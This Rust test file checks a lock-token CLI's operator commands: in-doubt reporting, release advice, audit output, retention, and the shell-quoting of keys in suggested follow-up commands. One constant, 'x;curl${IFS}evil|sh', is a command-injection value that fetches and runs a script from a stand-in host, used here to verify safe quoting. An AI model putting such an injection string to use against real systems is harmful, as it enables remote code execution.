//! What an operator's act says and records, and what `audit` tells of it later.

use lock_token_testing::Embedded;
use locker::workflow::Workflows;
use locker::{Begun, Form, Locker};
use locker_tests::Counted;
use locker_tests::command::{Place, until};
use locker_tests::filled::Stuck;
use serde_json::json;

use crate::dead::shown;
use crate::{bare, place};

/// Begins a token as a program of the user's own does, and leaves it in doubt.
fn left_in_doubt(place: &Place, key: &'static str, form: Option<Form>) {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let table = if place.is_embedded() { "locks" } else { place.workflows().trim_end_matches("-workflows") };
    runtime.block_on(async {
        let locker = Locker::new(&place.client(), table).expect("a locker");
        let token = locker.token(key);
        let token = if let Some(form) = form { token.form(form) } else { token };
        let Begun::Acquired(lock) = token.begin().await.expect("an answer") else { panic!("{key} is held") };
        lock.leave_in_doubt("no reply").await;
    });
}

#[test]
fn an_act_says_what_is_in_doubt_and_what_of_the_answer_nobody_checked() {
    let place = place();
    for (key, form, said) in [
        (
            "own",
            Some(Form::of::<Place>()),
            "locker: callers read the result as Place, which cannot be checked",
        ),
        ("none", None, "locker: the token has no form, so it is not checked"),
        ("once", Some(Form::ONCE), ""),
    ] {
        left_in_doubt(&place, key, form);
        let act = ["resolve", key, "--reason", "books", "--result", r#"{"exit":0}"#];
        let ran = place.act(&act);
        assert_eq!(ran.code, 0, "{}", ran.said);
        assert!(ran.said.starts_with(&format!("locker: {key} is inProgress, in doubt, by ")), "{}", ran.said);
        assert!(ran.said.contains(": no reply\n") && ran.said.contains(said), "{}", ran.said);
        // The owner is no process of `locker once`, so nothing is known of its work.
        assert!(ran.said.contains("whether its work is still running is unknown here"), "{}", ran.said);
        assert_eq!(ran.said.lines().count(), if said.is_empty() { 3 } else { 4 }, "{}", ran.said);
    }
}

#[test]
fn refusal_advises_no_options_that_exclude_each_other() {
    let place = place();
    place.once("works", &["--expect", "1h"], "kill -9 $PPID; sleep 1");
    place.once("done", &[], "true");
    for (key, option, advised) in [
        ("works", "--new-key", "use --running instead of --new-key"),
        ("works", "--completed", "use --running instead of --completed"),
        ("done", "--running", "use --completed instead of --running"),
    ] {
        let refused = place.run(&["release", key, option, "--reason", "x"]);
        assert_eq!(refused.code, 4, "{}", refused.said);
        assert!(refused.said.contains(advised), "{}", refused.said);
    }
}

/// The owner is no process of `locker once`.
const UNKNOWN: &str = "whether its work is still running is unknown here";

#[test]
fn dry_run_of_a_doubt_prints_its_unknown_facts() {
    let place = place();
    left_in_doubt(&place, "one", None);
    let release = ["release", "one", "--reason", "books"];
    let dry = place.run(&release);
    assert_eq!(dry.code, 6, "{}", dry.said);
    let printed = dry.text().lines().filter(|line| *line == format!("  unknown: {UNKNOWN}"));
    assert_eq!(printed.count(), 1, "{}", dry.text());
    let json = place.run(&[&release[..], &["--output", "json"]].concat()).json();
    assert_eq!(json["unknown"], json!([UNKNOWN]));
}

#[test]
fn plan_over_doubts_prints_their_unknown_facts() {
    let place = place();
    for key in ["one", "two"] {
        left_in_doubt(&place, key, None);
    }
    let plan = ["plan", "release", "--need", "inDoubt", "--reason", "books"];
    let planned = place.run(&plan);
    assert_eq!(planned.code, 6, "{}", planned.said);
    let printed = planned.text().lines().filter(|line| *line == format!("  2  unknown: {UNKNOWN}"));
    assert_eq!(printed.count(), 1, "{}", planned.text());
    let json = place.run(&[&plan[..], &["--output", "json"]].concat()).json();
    assert_eq!(json["plan"]["items"][0]["unknown"], json!([UNKNOWN]));
}

#[test]
fn only_a_release_that_asks_for_it_gives_the_provider_another_key() {
    let place = place();
    for (key, option, given) in [("same", &[][..], "same"), ("other", &["--new-key"], "other ~v2")] {
        left_in_doubt(&place, key, None);
        let released = place.act(&[&["release", key, "--reason", "books"], option].concat());
        assert_eq!(released.code, 0, "{}", released.said);
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        runtime.block_on(async {
            let table =
                if place.is_embedded() { "locks" } else { place.workflows().trim_end_matches("-workflows") };
            let locker = Locker::new(&place.client(), table).expect("a locker");
            let begun = locker.token(key).begin().await.expect("an answer");
            let Begun::Acquired(lock) = begun else { panic!("{begun:?}") };
            assert_eq!(lock.attempt().idempotency_key(), given);
            lock.release().await.expect("released");
        });
    }
}

#[test]
fn the_audit_has_the_cause_says_what_it_leaves_out_and_looks_as_far_back_as_it_is_told() {
    let place = place();
    for key in ["one", "two"] {
        place.once(key, &["--hold-on-failure"], "echo 'relay denied' >&2; exit 1");
        assert_eq!(place.act(&["release", key, "--reason", "it never left"]).code, 0);
    }
    let audit = |options: &[&str]| place.run(&[&["audit", "--output", "json"], options].concat());
    let all = audit(&[]);
    assert_eq!((all.json()["complete"].clone(), all.said.as_str()), (json!(true), ""));
    let acts = all.json()["acts"].clone();
    assert_eq!((&acts[0]["cause"], &acts[1]["cause"]), (&json!("relay denied"), &json!("relay denied")));
    let cut = audit(&["--limit", "1"]);
    assert_eq!(
        (cut.json()["acts"].as_array().map(Vec::len), cut.json()["complete"].clone()),
        (Some(1), json!(false))
    );
    for (selection, selected) in [(&["one"][..], "1 act was selected"), (&["two"], "0 acts were selected")] {
        let cut = place.run(&[&["audit", "--limit", "1"], selection].concat());
        let rest = "of the 1 read, oldest first; there are more: raise --limit or shorten --since";
        assert_eq!((cut.code, cut.said), (5, format!("locker: {selected} {rest}\n")));
    }
    assert_eq!(cut.code, 5, "{}", cut.said);
    until(|| audit(&["--since", "1s"]).json()["acts"] == json!([]));
    assert_eq!(audit(&["--since", "1h"]).json()["acts"], acts);
}

#[test]
fn answer_retained_forever_does_not_expire() {
    let place = place();
    place.once("days", &["--retain", "3d"], "true");
    place.once("ever", &["--retain", "forever"], "true");
    assert!(place.show("days")["expires"].is_string());
    assert_eq!(place.show("ever")["expires"], json!(null));
}

#[test]
fn a_failure_that_is_held_is_held_with_less_of_its_output_too() {
    let place = place();
    let ran = place.once("large", &["--hold-on-failure"], "head -c 3000000 /dev/urandom; exit 4");
    assert_eq!(ran.code, 4, "{}", ran.said);
    assert_eq!(place.show("large")["state"], "held");
}

#[test]
fn a_table_that_was_typed_beats_a_store_that_was_exported() {
    let place = place();
    // A name that is refused before anything is sent: which place was meant is in the words.
    let ran = bare(&place, &["--table=", "ls"], &[("LOCKER_LOCAL", "here")]);
    assert_eq!(ran.code, 78, "{}", ran.said);
    assert!(ran.said.contains("the name of the table is empty"), "{}", ran.said);
}

#[test]
fn an_act_that_was_done_is_said_to_be_done_if_it_cannot_be_looked_at_again() {
    let engine = Embedded::memory().expect("an engine");
    let client = engine.client();
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    runtime.block_on(async {
        locker::create_table(&client, "locks").await.expect("a table");
        locker::workflow::create_table(&client, "flows").await.expect("a table");
        let locker = Locker::new(&client, "locks").expect("a locker");
        let Ok(Begun::Acquired(lock)) = locker.token("odd").begin().await else { panic!("not acquired") };
        lock.hold("disk full").await.expect("held");
        let workflows = Workflows::new(&client, "flows").expect("workflows");
        workflows.start(&Stuck, "odd", &"7".to_owned()).run().await.expect("an outcome");
    });
    let place = place();
    for (act, key, done) in [
        (&["release", "odd"][..], "lockToken", "locker: released odd; "),
        (&["workflow", "close", "odd"], "key", "locker: closed odd as it is; "),
    ] {
        let served = Counted::start(&engine);
        let tables = [
            "--table",
            "locks",
            "--workflows",
            "flows",
            "--output",
            "json",
            "--endpoint-url",
            served.endpoint(),
        ];
        let act = [act, &["--reason", "books"], &tables].concat();
        let seen = shown(&bare(&place, &act, &[]).said);
        served.blind_after_a_transaction();
        let ran = bare(&place, &[&act[..], &["--seen", &seen]].concat(), &[]);
        assert_eq!((ran.code, ran.json()), (0, json!({ key: "odd" })), "{}", ran.said);
        let last = ran.said.lines().last().unwrap_or_default();
        assert!(
            last.starts_with(done) && last.ends_with("the record could not be read again"),
            "{}",
            ran.said
        );
    }
}

/// A key may have characters that a shell obeys.
const OF_A_SHELL: &str = "x;curl${IFS}evil|sh";

#[test]
fn key_in_a_line_that_shows_the_workflow_is_quoted() {
    let place = place();
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    runtime.block_on(async {
        let workflows = Workflows::new(&place.client(), place.workflows()).expect("workflows");
        workflows.start(&Stuck, OF_A_SHELL, &"7".to_owned()).run().await.expect("an outcome");
    });
    for (verb, options, version) in
        [("retry", &[][..], ""), ("cancel", &["--not-started", "--key-version", "2"], " --key-version 2")]
    {
        let seen = ["--seen", "0123456789", "--reason", "books"];
        let ran = place.run(&[&["workflow", verb, OF_A_SHELL], options, &seen].concat());
        assert_eq!(ran.code, 4, "{verb}: {}", ran.said);
        let line = format!(" workflow show '{OF_A_SHELL}'{version}`");
        assert!(ran.said.contains(&line), "{line} is not in {}", ran.said);
    }
}

#[test]
fn key_in_a_line_that_shows_the_token_is_quoted() {
    let (engine, place) = (Embedded::memory().expect("an engine"), place());
    let served = Counted::start(&engine);
    let at = ["--table", "locks", "--endpoint-url", served.endpoint()];
    let run = |call: &[&str]| bare(&place, &[&at[..], call].concat(), &[]);
    assert_eq!(run(&["table", "create"]).code, 0);
    served.deny("DeleteItem");
    let ran = run(&["once", OF_A_SHELL, "--retry-on-failure", "--", "sh", "-c", "exit 8"]);
    assert_eq!(ran.code, 8, "{}", ran.said);
    let line = format!(" show '{OF_A_SHELL}'` shows what other callers see");
    assert!(ran.said.contains(&line), "{line} is not in {}", ran.said);
}
